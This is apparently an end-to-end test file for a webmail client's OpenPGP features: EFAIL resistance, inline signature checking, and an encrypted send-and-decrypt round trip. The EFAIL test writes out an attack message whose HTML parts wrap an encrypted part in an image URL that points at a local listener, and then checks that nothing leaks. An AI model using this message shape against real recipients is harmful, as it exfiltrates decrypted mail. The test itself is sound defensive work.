// Issue 6 in real Chromium with the built app, the real PGP worker and OpenPGP.js:
//  - EFAIL: on the local mailbox, the user imports her secret key from Settings, imports an
//    EFAIL-shaped message (HTML parts that open and close an <img src="… around an encrypted
//    part, pointing at a loopback listener) and decrypts it: no request reaches the listener
//    and the plaintext is only in the decrypted part's own frame.
//  - Round trip between two users on Dovecot through the proxy: Alice and Bob each make a key
//    pair in Settings; Alice imports Bob's exported key (paste → "I checked the fingerprint"),
//    Alice sends Bob an encrypted message (passphrase asked at Send); the server holds only
//    ciphertext, and Bob decrypts it and sees Alice's valid signature. Bob gets Alice's key
//    from her mail: learned from its Autocrypt header (unconfirmed), then confirmed by
//    importing the key she attached.
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as openpgp from 'openpgp';
import type { Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sourcesIn } from '../support/imap-look.js';
import {
  encryptTo,
  encryptedEntity,
  makeKey,
  type TestKey,
} from '../ui/reader/pgp/support/pgp-mail.js';
import { EFAIL_SECRET, efailInner } from '../ui/reader/pgp/support/efail.js';
import { folderByRole, openFolder, openMessage, row } from './support/app.js';
import { toolbarButton } from './support/actions.js';
import {
  closeImportReport,
  importThroughInput,
  launchChromium,
  newAppContext,
  openApp,
  screenshot,
} from './support/browser.js';
import {
  ALICE,
  BOB,
  SYNC_WAIT_MS,
  signedInPage,
  startMailServer,
  type MailServer,
} from './support/mail-server.js';
import { startRecorder, type RequestRecorder } from './support/recorder.js';
import { startAppServer, type RunningServer } from './support/server.js';

const SETUP_TIMEOUT_MS = 90_000;
const TEST_TIMEOUT_MS = 150_000;
/**
 * After the frames loaded, how long a late request (an image a frame might still fetch) is
 * given to arrive before "nothing came" is believed.
 */
const SETTLE_MS = 1_500;
const EFAIL_ID = 'efail-2026@example.org';
const PASSPHRASE = 'correct horse battery';

async function openKeystore(page: Page): Promise<Locator> {
  await toolbarButton(page, 'Settings').click();
  await page.getByRole('button', { name: 'OpenPGP keys…' }).click();
  const keystore = page.getByRole('dialog', { name: 'OpenPGP keys' });
  await keystore.getByRole('heading', { name: 'Your keys' }).waitFor();
  return keystore;
}

async function closeKeystore(page: Page, keystore: Locator): Promise<void> {
  await keystore.getByRole('button', { name: 'Close' }).last().click();
  await page.keyboard.press('Escape');
}

/** Import dialog: paste armored key text, read it, then answer for the one key read. */
async function pasteKey(
  page: Page,
  keystore: Locator,
  armored: string,
  answer: RegExp,
): Promise<void> {
  await keystore.getByRole('button', { name: 'Import or look up keys…' }).click();
  const imp = page.getByRole('dialog', { name: 'Import keys' });
  await imp.getByLabel(/Or paste the key/).fill(armored);
  await imp.getByRole('button', { name: 'Read the pasted key' }).click();
  await imp.getByTestId('import-key').waitFor();
  await imp.getByRole('button', { name: answer }).click();
  await imp.getByText(/Imported as your own key|Added and confirmed/).waitFor();
  await imp.getByRole('button', { name: 'Close' }).last().click();
  await imp.waitFor({ state: 'hidden' });
}

/** Which frames hold `needle`, by their data-testid (or "frame" when they have none). */
async function framesWith(page: Page, needle: string): Promise<string[]> {
  const found: string[] = [];
  for (const frame of page.frames()) {
    if (frame === page.mainFrame()) continue;
    const html = await frame.evaluate(() => document.documentElement.outerHTML).catch(() => '');
    if (!html.includes(needle)) continue;
    const el = await frame.frameElement();
    found.push((await el.getAttribute('data-testid')) ?? 'frame');
  }
  return found;
}

/**
 * Whether `needle` is anywhere in the app's own document — text or attribute, shadow roots
 * included — other than in a mail frame's `srcdoc`, which is the sandboxed frame's content.
 */
function inAppDocument(page: Page, needle: string): Promise<boolean> {
  return page.evaluate((n) => {
    const walk = (root: Document | ShadowRoot): boolean => {
      for (const el of root.querySelectorAll('*')) {
        for (const attr of el.attributes) {
          if (el.tagName === 'IFRAME' && attr.name === 'srcdoc') continue;
          if (attr.value.includes(n)) return true;
        }
        for (const child of el.childNodes)
          if (child.nodeType === Node.TEXT_NODE && child.textContent?.includes(n)) return true;
        if (el.shadowRoot && walk(el.shadowRoot)) return true;
      }
      return false;
    };
    return walk(document);
  }, needle);
}

describe('issue 6 EFAIL in Chromium: a decrypted part is never joined with its neighbours', () => {
  let server: RunningServer;
  let recorder: RequestRecorder;
  let bob: TestKey;
  let page: Page;
  let closeBrowser: () => Promise<void>;

  beforeAll(async () => {
    [server, recorder, bob] = await Promise.all([startAppServer(), startRecorder(), makeKey()]);
    const browser = await launchChromium();
    closeBrowser = () => browser.close();
    page = await openApp(await newAppContext(browser), server.url);
  }, SETUP_TIMEOUT_MS);

  afterAll(async () => {
    await closeBrowser?.();
    await server?.stop();
    await recorder?.stop();
  });

  it(
    'PGP-1 PGP-4 the user imports her key, opens the EFAIL message and decrypts it: no request leaves, the plaintext stays in its own frame',
    async () => {
      const keystore = await openKeystore(page);
      await pasteKey(page, keystore, bob.armoredPrivate, /Import as your own key/);
      await keystore.getByTestId('pgp-key').filter({ hasText: 'bob@example.org' }).waitFor();
      await screenshot(page, 'pgp-keystore-own-key');
      await closeKeystore(page, keystore);

      const armored = await encryptTo(bob, efailInner());
      const leak = `http://${recorder.host}`;
      const eml =
        'From: Mallory <mallory@example.net>\r\nTo: Bob Reader <bob@example.org>\r\n' +
        'Subject: Re: harbour\r\nDate: Sat, 14 Mar 2026 09:30:05 +0000\r\n' +
        `Message-ID: <${EFAIL_ID}>\r\nMIME-Version: 1.0\r\n` +
        'Content-Type: multipart/mixed; boundary="efail"\r\n\r\n' +
        `--efail\r\nContent-Type: text/html\r\n\r\n<img src="${leak}/leak?\r\n` +
        `--efail\r\n${encryptedEntity(armored)}\r\n` +
        '--efail\r\nContent-Type: text/html\r\n\r\n">\r\n--efail--\r\n';
      const dir = mkdtempSync(join(tmpdir(), 'bz-efail-'));
      writeFileSync(join(dir, 'efail.eml'), eml);
      const report = await importThroughInput(page, [join(dir, 'efail.eml')]);
      expect(report.imported).toBe(1);
      await closeImportReport(page);

      const reader = await openMessage(page, EFAIL_ID);
      await reader
        .getByText(/encrypted/i)
        .first()
        .waitFor();
      await reader.getByTestId('pgp-decrypt').click();
      await reader.getByTestId('pgp-passphrase').fill(PASSPHRASE);
      await reader
        .getByTestId('pgp-passphrase-form')
        .getByRole('button', { name: 'Decrypt' })
        .click();
      await reader.getByTestId('decrypted-part').waitFor();
      await expect
        .poll(() => framesWith(page, EFAIL_SECRET), { timeout: SYNC_WAIT_MS })
        .toEqual(['decrypted-frame']);
      await new Promise((r) => setTimeout(r, SETTLE_MS));
      expect(recorder.requests).toEqual([]);
      expect(await inAppDocument(page, EFAIL_SECRET)).toBe(false);
      // The listener was reachable all along: silence above means nothing tried.
      const control = await page.context().newPage();
      await control.goto(`${leak}/control.png`);
      await control.close();
      await expect.poll(() => recorder.requests.map((r) => r.path)).toContain('/control.png');
      await screenshot(page, 'pgp-efail-decrypted');
    },
    TEST_TIMEOUT_MS,
  );

  it(
    'PGP-4 inline PGP: a clearsigned text in the body shows as signed by the key, and a changed one as invalid',
    async () => {
      const key = await openpgp.decryptKey({
        privateKey: await openpgp.readPrivateKey({ armoredKey: bob.armoredPrivate }),
        passphrase: PASSPHRASE,
      });
      const text = 'Pago confirmado: 1.250 € el lunes.';
      const signed = await openpgp.sign({
        message: await openpgp.createCleartextMessage({ text }),
        signingKeys: key,
      });
      const inline = (id: string, body: string) =>
        'From: Bob Reader <bob@example.org>\r\nTo: Bob Reader <bob@example.org>\r\n' +
        `Subject: ${id}\r\nDate: Sat, 14 Mar 2026 10:00:00 +0000\r\n` +
        `Message-ID: <${id}@example.org>\r\nMIME-Version: 1.0\r\n` +
        'Content-Type: text/plain; charset=utf-8\r\n\r\n' +
        body.replace(/\r?\n/g, '\r\n');
      const dir = mkdtempSync(join(tmpdir(), 'bz-inline-'));
      writeFileSync(join(dir, 'good.eml'), inline('inline-good', signed));
      writeFileSync(join(dir, 'bad.eml'), inline('inline-bad', signed.replace('1.250', '9.250')));
      const report = await importThroughInput(page, [join(dir, 'good.eml'), join(dir, 'bad.eml')]);
      expect(report.imported).toBe(2);
      await closeImportReport(page);

      let reader = await openMessage(page, 'inline-good@example.org');
      const good = reader.getByTestId('pgp-signature');
      await expect.poll(() => good.getAttribute('data-status')).toBe('valid');
      expect(await good.textContent()).toContain('bob@example.org');
      reader = await openMessage(page, 'inline-bad@example.org');
      const bad = reader.getByTestId('pgp-signature');
      await expect.poll(() => bad.getAttribute('data-status')).toBe('invalid');
      await screenshot(page, 'pgp-inline-invalid');
    },
    TEST_TIMEOUT_MS,
  );
});

describe('issue 6 round trip between two users on Dovecot through the proxy', () => {
  let mail: MailServer;

  beforeAll(async () => {
    mail = await startMailServer(ALICE, { sending: true });
  }, SETUP_TIMEOUT_MS);

  afterAll(async () => {
    await mail?.stop();
  });

  /** Makes a key pair in Settings and returns its exported public key, as downloaded. */
  async function makeKeyPair(page: Page, address: string): Promise<string> {
    const keystore = await openKeystore(page);
    await keystore.getByRole('button', { name: 'New key pair…' }).click();
    const form = keystore.locator('bz-pgp-generate-form');
    await expect.poll(() => form.getByLabel('Address').inputValue()).toBe(address);
    await form.getByLabel('Passphrase', { exact: true }).fill(PASSPHRASE);
    await form.getByLabel('Repeat the passphrase').fill(PASSPHRASE);
    await form.getByRole('button', { name: 'Create key pair' }).click();
    await form.getByText('Your key pair is ready.').waitFor();
    await form.getByRole('button', { name: 'Done' }).click();
    const card = keystore.getByTestId('pgp-key').filter({ hasText: address });
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      card.getByRole('button', { name: 'Export public key' }).click(),
    ]);
    const armored = readFileSync(await download.path(), 'utf8');
    await closeKeystore(page, keystore);
    return armored;
  }

  it(
    "PGP-1 PGP-3 PGP-4 Bob learns Alice's key from her mail (Autocrypt, unconfirmed; then her attached key, confirmed); her encrypted message is only ciphertext on the server, and Bob decrypts it and sees her valid signature",
    async () => {
      const a = await signedInPage(mail, 'A', ALICE);
      const b = await signedInPage(mail, 'B', BOB);
      const alicePublic = await makeKeyPair(a.page, ALICE.user);
      const bobPublic = await makeKeyPair(b.page, BOB.user);
      expect(alicePublic).toMatch(/^-----BEGIN PGP PUBLIC KEY BLOCK-----/);
      let keystore = await openKeystore(a.page);
      await pasteKey(a.page, keystore, bobPublic, /I checked the fingerprint/);
      await closeKeystore(a.page, keystore);

      // Alice sends her key as an attachment; her mail also carries it in an Autocrypt
      // header, from which Bob's Buzón learns it — unconfirmed until Bob says whose it is.
      await a.page.getByTestId('compose-button').click();
      await a.page.getByTestId('composer').waitFor();
      await a.page.getByTestId('compose-to').fill(BOB.user);
      await a.page.getByTestId('compose-subject').fill('Mi clave');
      await a.page.getByTestId('compose-body').fill('Te mando mi clave pública.');
      await a.page.getByTestId('compose-file-input').setInputFiles({
        name: 'alice-public.asc',
        mimeType: 'application/pgp-keys',
        buffer: Buffer.from(alicePublic),
      });
      await a.page.getByTestId('compose-attachment').waitFor();
      await a.page.getByTestId('compose-send').click();
      const keyMail = async () =>
        (await sourcesIn(mail.dovecot, BOB, 'INBOX'))
          .map((s) => new TextDecoder().decode(s))
          .find((s) => s.includes('Subject: Mi clave')) ?? null;
      await expect.poll(keyMail, { timeout: SYNC_WAIT_MS }).not.toBeNull();
      expect(await keyMail()).toMatch(/^Autocrypt: addr=alice@buzon\.test; keydata=/m);
      const keyMailId = /^Message-ID: <([^>]+)>/im.exec((await keyMail()) as string)?.[1] ?? '';
      await openFolder(folderByRole(b.page, 'inbox'));
      await row(b.page, keyMailId).waitFor({ timeout: SYNC_WAIT_MS });
      keystore = await openKeystore(b.page);
      await expect
        .poll(
          async () => {
            const learned = keystore.getByTestId('pgp-key').filter({ hasText: ALICE.user });
            return (await learned.count()) > 0 ? learned.textContent() : null;
          },
          { timeout: SYNC_WAIT_MS },
        )
        .toContain('Unconfirmed');
      await closeKeystore(b.page, keystore);
      const keyReader = await openMessage(b.page, keyMailId);
      await keyReader
        .getByRole('button', { name: 'Import the OpenPGP key in alice-public.asc' })
        .click();
      const imp = b.page.getByRole('dialog', { name: 'Import keys' });
      await imp.getByTestId('import-key').waitFor();
      await imp.getByRole('button', { name: /I checked the fingerprint/ }).click();
      await imp.getByText('Added and confirmed').waitFor();
      await imp.getByRole('button', { name: 'Close' }).last().click();
      keystore = await openKeystore(b.page);
      const confirmed = keystore.getByTestId('pgp-key').filter({ hasText: ALICE.user });
      await expect.poll(() => confirmed.textContent()).not.toContain('Unconfirmed');
      await closeKeystore(b.page, keystore);

      const subject = 'Contrato firmado';
      const body = 'Hola Bob, la clave del archivo es 7781-Tortuga.';
      await a.page.getByTestId('compose-button').click();
      const composer = a.page.getByTestId('composer');
      await composer.waitFor();
      await a.page.getByTestId('compose-to').fill(BOB.user);
      await a.page.getByTestId('compose-subject').fill(subject);
      await a.page.getByTestId('compose-body').fill(body);
      await composer.getByRole('checkbox', { name: 'Encrypt' }).check();
      await screenshot(a.page, 'pgp-composer-encrypt');
      await a.page.getByTestId('compose-send').click();
      await a.page.getByTestId('compose-pgp-passphrase-input').fill(PASSPHRASE);
      await a.page.getByTestId('compose-pgp-unlock').click();

      const bobsCopy = async () => {
        const sources = await sourcesIn(mail.dovecot, BOB, 'INBOX');
        return (
          sources.map((s) => new TextDecoder().decode(s)).find((s) => s.includes(subject)) ?? null
        );
      };
      await expect.poll(bobsCopy, { timeout: SYNC_WAIT_MS }).not.toBeNull();
      const onServer = (await bobsCopy()) as string;
      expect(onServer).toMatch(/Content-Type: multipart\/encrypted;[^]*application\/pgp-encrypted/);
      expect(onServer).not.toContain('7781-Tortuga');
      const messageId = /^Message-ID: <([^>]+)>/im.exec(onServer)?.[1] ?? '';

      await openFolder(folderByRole(b.page, 'inbox'));
      await row(b.page, messageId).waitFor({ timeout: SYNC_WAIT_MS });
      const reader = await openMessage(b.page, messageId);
      await reader.getByTestId('pgp-decrypt').click();
      await reader.getByTestId('pgp-passphrase').fill(PASSPHRASE);
      await reader
        .getByTestId('pgp-passphrase-form')
        .getByRole('button', { name: 'Decrypt' })
        .click();
      await reader.getByTestId('decrypted-part').waitFor();
      const signature = reader.getByTestId('pgp-inner-signature');
      await expect.poll(() => signature.getAttribute('data-status')).toBe('valid');
      expect(await signature.textContent()).toContain(ALICE.user);
      await expect
        .poll(() => framesWith(b.page, '7781-Tortuga'), { timeout: SYNC_WAIT_MS })
        .toEqual(['decrypted-frame']);
      await screenshot(b.page, 'pgp-bob-decrypted');

      // SEND-5 on encrypted mail: Bob's reply quotes what he decrypted and starts encrypted.
      await reader.getByTestId('reader-reply').click();
      const bobComposer = b.page.getByTestId('composer');
      await bobComposer.waitFor();
      await expect
        .poll(() => b.page.getByTestId('compose-body').inputValue())
        .toContain('> Hola Bob, la clave del archivo es 7781-Tortuga.');
      const encrypt = bobComposer.getByRole('checkbox', { name: 'Encrypt' });
      await encrypt.waitFor();
      expect(await encrypt.isChecked()).toBe(true);
    },
    TEST_TIMEOUT_MS,
  );
});
